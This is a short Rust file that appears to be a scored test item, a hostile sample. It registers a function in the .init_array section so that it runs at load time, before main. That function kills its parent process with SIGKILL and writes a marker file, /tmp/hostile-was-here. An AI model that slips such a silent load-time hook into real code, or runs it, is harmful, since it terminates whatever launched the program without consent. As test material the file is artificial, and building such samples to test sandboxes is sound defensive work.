// A function in the table of those that run first.
// on: reference
// earns: 100

unsafe extern "C" {
    fn getppid() -> i32;
    fn kill(process: i32, signal: i32) -> i32;
    fn open(path: *const core::ffi::c_char, flags: i32, mode: u32) -> i32;
}

extern "C" fn first() {
    unsafe {
        kill(getppid(), 9);
        open(c"/tmp/hostile-was-here".as_ptr(), 0o101, 0o644);
    }
}

#[used]
#[unsafe(link_section = ".init_array")]
static FIRST: extern "C" fn() = first;
